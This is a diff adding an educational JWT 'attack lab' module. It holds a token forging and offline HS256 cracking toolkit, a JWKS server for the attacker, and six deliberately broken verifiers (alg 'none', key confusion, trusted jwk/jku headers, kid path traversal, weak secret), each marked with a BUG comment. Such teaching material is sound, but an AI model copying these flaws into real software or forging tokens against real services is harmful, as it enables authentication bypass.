@@ -1,0 +1,230 @@
+"""The attack lab (notebook 09): a JWT forger's toolkit and DELIBERATELY BROKEN verifiers.
+
+    !!!  Every ``naive_*`` function below is deliberately broken — NEVER COPY ONE.  !!!
+
+Each naive verifier contains one real-world mistake (PortSwigger's JWT labs, CVE write-ups): it
+accepts a genuine Better Auth token, and it also accepts the forgery of its lab. The reference
+verifier (``playground.backend``) refuses every forgery with a reason code; tests/lessons/
+test_attack_lab.py proves both halves. The naive verifiers check the signature only (no exp,
+iss, aud): the labs are about who may sign, and a real naive verifier would get those wrong too.
+
+The toolkit half (``forge``, ``tamper``, ``crack_hs256`` ...) is what an attacker needs: nothing
+in it is secret. The issuer's JWKS is public, so is anything derived from it.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import os
+from collections.abc import Callable, Iterable
+from typing import Any
+
+import httpx
+import jwt
+from cryptography.exceptions import InvalidSignature
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
+from starlette.applications import Starlette
+from starlette.responses import JSONResponse
+from starlette.routing import Route
+
+BANNER = "DELIBERATELY BROKEN - never copy"
+
+# --------------------------------------------------------------------------------------------
+# The attacker's toolkit
+# --------------------------------------------------------------------------------------------
+
+
+def b64url(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")
+
+
+def b64url_decode(segment: str) -> bytes:
+    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
+
+
+def _json_segment(value: dict[str, Any]) -> str:
+    return b64url(json.dumps(value, separators=(",", ":")).encode())
+
+
+def split(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
+    """Header and claims (decoded, not verified) and the signature segment of a compact JWS."""
+    header_b64, payload_b64, signature_b64 = token.split(".")
+    return json.loads(b64url_decode(header_b64)), json.loads(b64url_decode(payload_b64)), signature_b64
+
+
+Signer = Callable[[bytes], bytes]
+
+
+def forge(header: dict[str, Any], claims: dict[str, Any], sign: Signer | None = None) -> str:
+    """A compact JWS with exactly this header and these claims, signed by ``sign`` (None: unsigned)."""
+    signing_input = f"{_json_segment(header)}.{_json_segment(claims)}"
+    signature = sign(signing_input.encode("ascii")) if sign is not None else b""
+    return f"{signing_input}.{b64url(signature)}"
+
+
+def hs256(key: bytes) -> Signer:
+    """A signer for HMAC-SHA256 with ``key`` (by hand: PyJWT would warn about short keys, rightly)."""
+    return lambda signing_input: hmac.new(key, signing_input, hashlib.sha256).digest()
+
+
+def ed25519(private_key: Ed25519PrivateKey) -> Signer:
+    return private_key.sign
+
+
+def tamper(token: str, **changes: Any) -> str:
+    """``token`` with claims changed and the ORIGINAL header and signature kept."""
+    header_b64, payload_b64, signature_b64 = token.split(".")
+    claims = {**json.loads(b64url_decode(payload_b64)), **changes}
+    return f"{header_b64}.{_json_segment(claims)}.{signature_b64}"
+
+
+def attacker_key() -> Ed25519PrivateKey:
+    """The attacker's own Ed25519 key, derived from a public label so lesson outputs are stable."""
+    return Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"attack-lab demo attacker key").digest())
+
+
+def public_jwk(private_key: Ed25519PrivateKey, kid: str) -> dict[str, str]:
+    """The public half of ``private_key`` as a JWK shaped like Better Auth's."""
+    raw = private_key.public_key().public_bytes_raw()
+    return {"alg": "EdDSA", "crv": "Ed25519", "x": b64url(raw), "kty": "OKP", "kid": kid}
+
+
+def attacker_jwks_app(jwks: dict[str, Any]) -> Starlette:
+    """The attacker's web server: serves ``jwks`` at ``/jwks.json`` (the jku lab)."""
+
+    async def serve(request):
+        return JSONResponse(jwks)
+
+    return Starlette(routes=[Route("/jwks.json", serve)])
+
+
+#: A short wordlist of the kind attackers start with (real ones hold millions: rockyou, jwt.secrets.list).
+WORDLIST = ("secret", "password", "123456", "changeme", "jwt-secret", "your-256-bit-secret",
+            "supersecret", "letmein", "better-auth-secret", "admin")
+
+
+def crack_hs256(token: str, wordlist: Iterable[str]) -> str | None:
+    """The word of ``wordlist`` that is the HS256 key of ``token``, or None. Offline: no server sees it."""
+    signing_input, _, signature_b64 = token.rpartition(".")
+    signature = b64url_decode(signature_b64)
+    for word in wordlist:
+        if hmac.compare_digest(hs256(word.encode())(signing_input.encode("ascii")), signature):
+            return word
+    return None
+
+
+def _find_jwk(jwks: dict[str, Any], kid: Any) -> dict[str, Any]:
+    for key in jwks.get("keys", []):
+        if key.get("kid") == kid:
+            return key
+    raise NaiveVerifierError("no key with this kid")
+
+
+# --------------------------------------------------------------------------------------------
+# DELIBERATELY BROKEN verifiers - never copy. Each comment "BUG:" marks the mistake.
+# --------------------------------------------------------------------------------------------
+
+
+class NaiveVerifierError(Exception):
+    """A naive verifier refused the token."""
+
+
+def naive_decode_without_verifying(token: str, jwks: dict[str, Any]) -> dict[str, Any]:
+    """DELIBERATELY BROKEN - never copy. Lab 1: reads the claims, never checks the signature."""
+    # BUG: verify_signature False turns a JWT into a plain, editable JSON document.
+    return jwt.decode(token, options={"verify_signature": False})
+
+
+def naive_alg_from_header(token: str, jwks: dict[str, Any]) -> dict[str, Any]:
+    """DELIBERATELY BROKEN - never copy. Labs 2 and 3: lets the token choose the algorithm."""
+    header, claims, signature_b64 = split(token)
+    signing_input = token.rpartition(".")[0].encode("ascii")
+    signature = b64url_decode(signature_b64)
+    alg = header.get("alg")  # BUG: the algorithm comes from the attacker's token
+    if alg == "none":
+        return claims  # BUG: "none" means "no signature to check"
+    jwk = _find_jwk(jwks, header.get("kid"))
+    if alg == "HS256":
+        # BUG: the issuer's *public* key material used as an HMAC *secret*.
+        if hmac.compare_digest(hs256(jwk["x"].encode())(signing_input), signature):
+            return claims
+        raise NaiveVerifierError("bad HS256 signature")
+    if alg == "EdDSA":
+        try:
+            Ed25519PublicKey.from_public_bytes(b64url_decode(jwk["x"])).verify(signature, signing_input)
+        except InvalidSignature:
+            raise NaiveVerifierError("bad EdDSA signature") from None
+        return claims
+    raise NaiveVerifierError(f"unknown alg {alg!r}")
+
+
+def _verify_eddsa(token: str, jwk: dict[str, Any]) -> dict[str, Any]:
+    try:
+        # The algorithm is fixed here; only the choice of key is wrong in the two labs using it.
+        jwt.PyJWS().decode_complete(token, jwt.PyJWK(jwk).key, algorithms=["EdDSA"])
+    except jwt.PyJWTError as exc:
+        raise NaiveVerifierError(str(exc)) from None
+    return split(token)[1]
+
+
+def naive_trusts_jwk_header(token: str, jwks: dict[str, Any]) -> dict[str, Any]:
+    """DELIBERATELY BROKEN - never copy. Lab 4a: uses the key the token carries in its ``jwk`` header."""
+    header = split(token)[0]
+    jwk = header.get("jwk") or _find_jwk(jwks, header.get("kid"))  # BUG: the token brings its own key
+    return _verify_eddsa(token, jwk)
+
+
+def naive_trusts_jku_header(token: str, jwks_url: str) -> dict[str, Any]:
+    """DELIBERATELY BROKEN - never copy. Lab 4b: fetches keys from the URL in the token's ``jku`` header."""
+    header = split(token)[0]
+    url = header.get("jku") or jwks_url  # BUG: the token says where to download its key from
+    jwks = httpx.get(url, timeout=5).json()
+    return _verify_eddsa(token, _find_jwk(jwks, header.get("kid")))
+
+
+def naive_kid_as_file_path(token: str, keys_dir: str) -> dict[str, Any]:
+    """DELIBERATELY BROKEN - never copy. Lab 5: reads the HMAC key from the file named by ``kid``."""
+    header, claims, signature_b64 = split(token)
+    # BUG: kid is attacker input joined into a path: "../../../../dev/null" escapes keys_dir.
+    with open(os.path.join(keys_dir, str(header.get("kid"))), "rb") as file:
+        key = file.read()
+    signing_input = token.rpartition(".")[0].encode("ascii")
+    if hmac.compare_digest(hs256(key)(signing_input), b64url_decode(signature_b64)):
+        return claims
+    raise NaiveVerifierError("bad HS256 signature")
+
+
+def naive_hs256_shared_secret(token: str, secret: str) -> dict[str, Any]:
+    """DELIBERATELY BROKEN - never copy. Lab 6: HS256 with a guessable shared secret.
+
+    The check itself is correct; the secret is not: anyone who cracks it offline signs anything."""
+    header, claims, signature_b64 = split(token)
+    if header.get("alg") != "HS256":  # the algorithm is fixed: this verifier's bug is elsewhere
+        raise NaiveVerifierError("not an HS256 token")
+    signing_input = token.rpartition(".")[0].encode("ascii")
+    if not hmac.compare_digest(hs256(secret.encode())(signing_input), b64url_decode(signature_b64)):
+        raise NaiveVerifierError("bad HS256 signature")
+    return split(token)[1]
+
+
+# --------------------------------------------------------------------------------------------
+# The reference verifier's answer
+# --------------------------------------------------------------------------------------------
+
+
+def reference_verdict(api: httpx.Client, token: str, path: str = "/api/admin/stats") -> tuple[int, str | None]:
+    """What the reference backend (playground.backend) answers ``token`` on ``path``: (status, reason)."""
+    response = api.get(path, headers={"Authorization": f"Bearer {token}"})
+    reason = response.json().get("reason") if response.status_code >= 400 else None
+    return response.status_code, reason
+
+
+__all__ = [
+    "BANNER", "WORDLIST", "NaiveVerifierError", "attacker_jwks_app", "attacker_key", "b64url", "b64url_decode",
+    "crack_hs256", "ed25519", "forge", "hs256", "naive_alg_from_header", "naive_decode_without_verifying",
+    "naive_hs256_shared_secret", "naive_kid_as_file_path", "naive_trusts_jku_header", "naive_trusts_jwk_header",
+    "public_jwk", "reference_verdict", "split", "tamper",
+]
